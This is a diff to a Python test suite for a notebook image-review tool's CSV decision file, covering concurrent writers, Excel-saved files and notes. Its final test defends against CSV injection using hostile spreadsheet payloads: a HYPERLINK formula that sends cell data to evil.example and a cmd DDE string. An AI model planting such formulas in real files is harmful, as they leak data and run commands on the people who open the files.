@@ -155,18 +155,19 @@ def test_keys_from_the_front_end_decide_and_step(batch, tmp_path):
     review.widget()
     ids = batch.process_ids
     strip = review._strip
-    review._note.value = "crisp"
-    strip._handle_custom_msg({"event": "key", "key": "a"}, [])
-    strip._handle_custom_msg({"event": "key", "key": "j"}, [])
+    strip._handle_custom_msg({"event": "note", "index": 0, "note": "crisp"}, [])
+    strip._handle_custom_msg({"event": "key", "key": "a", "index": 0}, [])
+    strip._handle_custom_msg({"event": "key", "key": "j", "index": 0}, [])
     assert review.current == ids[1]
-    strip._handle_custom_msg({"event": "key", "key": "r"}, [])
-    strip._handle_custom_msg({"event": "key", "key": "k"}, [])
+    strip._handle_custom_msg({"event": "key", "key": "r", "index": 1}, [])
+    strip._handle_custom_msg({"event": "key", "key": "k", "index": 1}, [])
     strip._handle_custom_msg({"event": "go", "index": 3}, [])
-    strip._handle_custom_msg({"event": "key", "key": "f"}, [])
+    strip._handle_custom_msg({"event": "key", "key": "f"}, [])  # no index: the current one
     assert review.decisions == {ids[0]: "accept", ids[1]: "reject", ids[3]: "flag"}
     assert review.note(ids[0]) == "crisp" and review.note(ids[1]) == ""
+    assert [i["note"] for i in strip.items] == ["crisp", "", "", ""]
     # Editing the note of a decided process rewrites its row.
-    review._note.value = "check the sky"
+    strip._handle_custom_msg({"event": "note", "index": 3, "note": "check the sky"}, [])
     assert {r["process_id"]: r["note"] for r in _rows(path)}[ids[3]] == "check the sky"
     review.close()
 
@@ -358,3 +359,190 @@ def test_the_mode_chosen_carries_over_to_every_process(batch, tmp_path):
     strip._handle_custom_msg({"event": "key", "key": "j", "mode": "<b>none</b>"}, [])
     assert stage.children[0] is second and second.mode == "grid"
     review.close()
+
+
+# -- the review file: other writers, other rows, spreadsheets -------------------------
+
+def test_two_reviews_of_one_file_keep_each_others_decisions(batch, tmp_path):
+    """A re-run cell, or ``gallery.review(p)`` twice: both reviews opened the file
+    before either decided, and neither undoes the other."""
+    path = tmp_path / "r.csv"
+    ids = batch.process_ids
+    first, second = batch.review(path=str(path)), batch.review(path=str(path))
+    first.decide(ids[0], "accept")
+    second.decide(ids[1], "reject")
+    first.decide(ids[2], "flag")
+    assert {r["process_id"]: r["decision"] for r in _rows(path)} == {
+        ids[0]: "accept", ids[1]: "reject", ids[2]: "flag"}
+    # Each sees the other's decisions, on the strip too.
+    assert first.decisions == second.decisions == {ids[0]: "accept", ids[1]: "reject",
+                                                   ids[2]: "flag"}
+    second.decide(ids[0], "reject")  # the same process twice: the later decision wins
+    assert first.decisions[ids[0]] == "reject"
+    first.close()
+    second.close()
+
+
+KERNEL = r"""
+import os, sys
+from topaz_nb.api.client import TopazClient
+from topaz_nb.batch.gallery import Gallery
+from topaz_nb.storage import Transfer
+
+base_url, cache, path, *ids = sys.argv[1:]
+with TopazClient(api_key=os.environ["SANDBOX_KEY"], base_url=base_url) as client, \
+        Transfer(cache) as transfer:
+    gallery = Gallery(ids, client=client, transfer=transfer, max_workers=1)
+    review = gallery.review(path=path)
+    print("ready", review.position, flush=True)
+    for line in sys.stdin:
+        pid, decision = line.split()
+        review.decide(pid, decision, note="from " + os.path.basename(cache))
+        print(" ".join(sorted(f"{p[:8]}={d}" for p, d in review.decisions.items())), flush=True)
+    review.close()
+    gallery.cancel()
+    gallery.wait(10)
+"""
+
+
+def test_two_kernels_reviewing_into_one_file_keep_every_decision(batch, sandbox, tmp_path):
+    import os
+    import subprocess
+    import sys
+
+    path = tmp_path / "r.csv"
+    ids = batch.process_ids
+    env = {**os.environ, "SANDBOX_KEY": sandbox.api_key}
+    kernels = [subprocess.Popen([sys.executable, "-c", KERNEL, sandbox.base_url,
+                                 str(tmp_path / name), str(path), *ids],
+                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=env)
+               for name in ("one", "two")]
+    try:
+        # Both have opened the (empty) review before either decides.
+        assert [k.stdout.readline().split() for k in kernels] == [["ready", "0"]] * 2
+        seen = []
+        for i, decision in enumerate(["accept", "reject", "flag", "accept"]):
+            kernel = kernels[i % 2]
+            kernel.stdin.write(f"{ids[i]} {decision}\n")
+            kernel.stdin.flush()
+            seen.append(kernel.stdout.readline().strip())
+    finally:
+        for k in kernels:
+            k.stdin.close()
+            k.wait(60)
+            k.stdout.close()
+    assert [k.returncode for k in kernels] == [0, 0]
+    rows = {r["process_id"]: (r["decision"], r["note"]) for r in _rows(path)}
+    assert rows == {ids[0]: ("accept", "from one"), ids[1]: ("reject", "from two"),
+                    ids[2]: ("flag", "from one"), ids[3]: ("accept", "from two")}
+    # Each kernel's review saw the other's decisions as it went.
+    assert seen[-1] == " ".join(sorted(f"{p[:8]}={rows[p][0]}" for p in ids))
+    assert seen[2].count("=") == 3
+
+
+def test_a_review_file_saved_by_a_spreadsheet_is_resumed_and_kept_in_its_shape(batch, tmp_path):
+    """Excel's "CSV UTF-8": a BOM, CRLF line ends, a column added by hand,
+    an upper-case process ID and ``Accept`` capitalised."""
+    path = tmp_path / "r.csv"
+    ids = batch.process_ids
+    kept = (f"{ids[0].upper()},Accept,sharp,Model 0,one.jpg,2026-11-01 10:00,ann\r\n"
+            f"{ids[1]},reject,,Model 1,two.jpg,2026-11-01 10:01,bob\r\n")
+    head = "\ufeffprocess_id,decision,note,model,filename,reviewed_at,reviewer\r\n"
+    path.write_bytes((head + kept).encode("utf-8"))
+    review = Review(batch, path=str(path))
+    assert review.decisions == {ids[0]: "accept", ids[1]: "reject"}
+    assert review.position == 2 and review.note(ids[0]) == "sharp"
+    review.decide(ids[2], "flag")
+    data = path.read_bytes().decode("utf-8")
+    assert data.startswith(head + kept)  # the BOM, the header and their rows as they were
+    added = data[len(head + kept):]
+    assert added.endswith(",\r\n") and added.count("\r\n") == 1  # reviewer left blank, CRLF
+    assert added.startswith(f"{ids[2]},flag,,Model 2,three.jpg,")
+    review.close()
+
+
+def test_rows_the_review_does_not_know_are_kept_byte_for_byte(batch, tmp_path):
+    path = tmp_path / "r.csv"
+    ids = batch.process_ids
+    other = "11111111-2222-4333-8444-555555555555"
+    unknown = [
+        f"{other},maybe,another tool's decision,X,x.jpg,2026-11-01T00:00:00+00:00\r\n",
+        "\r\n",
+        f"{other.upper().replace('1', '9')},Accept,capitalised,X,y.jpg,\r\n",
+        ',,"a row with no ID,\r\nover two lines",,,\r\n',
+    ]
+    path.write_bytes((",".join(HEADER) + "\r\n" + "".join(unknown)).encode("utf-8"))
+    review = Review(batch, path=str(path))
+    review.decide(ids[0], "accept")
+    review.decide(ids[1], "reject")
+    data = path.read_bytes().decode("utf-8")
+    assert data.startswith(",".join(HEADER) + "\r\n" + "".join(unknown))
+    assert [r["process_id"] for r in _rows(path)[-2:]] == [ids[0], ids[1]]
+    review.close()
+
+
+def test_a_note_kept_without_a_decision_survives_stepping(batch, tmp_path):
+    path = tmp_path / "r.csv"
+    ids = batch.process_ids
+    review = batch.review(path=str(path))
+    review.widget()
+    strip = review._strip
+    assert review.current == ids[0] and review.decisions == {}
+    # What the front end sends on Enter in the note field, then j and k.
+    strip._handle_custom_msg({"event": "note", "index": 0, "note": "soft corners"}, [])
+    strip._handle_custom_msg({"event": "key", "key": "j", "index": 0}, [])
+    strip._handle_custom_msg({"event": "key", "key": "k", "index": 1}, [])
+    assert review.current == ids[0] and strip.current == 0
+    assert strip.items[0]["note"] == "soft corners"  # what the field shows
+    assert [(r["process_id"], r["decision"], r["note"]) for r in _rows(path)] == [
+        (ids[0], "", "soft corners")]
+    # A note reaching the kernel after it moved on still goes to the process
+    # it was typed on.
+    strip._handle_custom_msg({"event": "key", "key": "j", "index": 0}, [])
+    strip._handle_custom_msg({"event": "note", "index": 0, "note": "soft corners, left"}, [])
+    assert review.current == ids[1] and review.note(ids[1]) == ""
+    assert review.note(ids[0]) == "soft corners, left"
+    strip._handle_custom_msg({"event": "key", "key": "k", "index": 1}, [])
+    # Still undecided: a review opened again starts there, with the note.
+    again = Review(batch, path=str(path))
+    assert again.position == 0 and again.note(ids[0]) == "soft corners, left"
+    assert again.decisions == {}
+    again.close()
+    # Deciding later keeps it; from Python, a note needs no decision either.
+    strip._handle_custom_msg({"event": "key", "key": "a", "index": 0}, [])
+    review.set_note(ids[3], "look again")
+    review.decide(ids[3], "flag")
+    assert {r["process_id"]: (r["decision"], r["note"]) for r in _rows(path)} == {
+        ids[0]: ("accept", "soft corners, left"), ids[3]: ("flag", "look again")}
+    review.close()
+
+
+def test_names_and_notes_that_look_like_formulas_are_written_as_text(sandbox, parts,
+                                                                      make_image, tmp_path):
+    """CSV injection: what the server sends and what was typed opens in a
+    spreadsheet as text, never as a formula, and the review reads it back."""
+    client, transfer = parts
+    jobs = [('=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0"),
+            ("-2+3.jpg", "@SUM(1+1)"), ("'quoted.jpg", "Standard V2")]
+    ids = [sandbox.add_job(make_image(), make_image((128, 96)), filename=f, model=m)
+           for f, m in jobs]
+    gallery = Gallery(ids, client=client, transfer=transfer)
+    path = tmp_path / "r.csv"
+    review = gallery.review(path=str(path))
+    notes = ["=1+1", "\t=2+2", "-1 stop"]
+    for pid, note in zip(ids, notes):
+        review.decide(pid, "accept", note=note)
+    rows = {r["process_id"]: r for r in _rows(path)}
+    for pid, (filename, model), note in zip(ids, jobs, notes):
+        assert rows[pid]["filename"] == "'" + filename
+        assert rows[pid]["note"] == "'" + note
+        assert rows[pid]["model"] == ("'" + model if model[0] in "+@" else model)
+    review.close()
+    again = gallery.review(path=str(path))
+    assert [again.note(pid) for pid in ids] == notes
+    from topaz_nb.batch.decisions import ReviewFile
+
+    entries = ReviewFile(path).entries()
+    assert [(entries[p].filename, entries[p].model) for p in ids] == jobs
+    again.close()
+    gallery.wait(10)
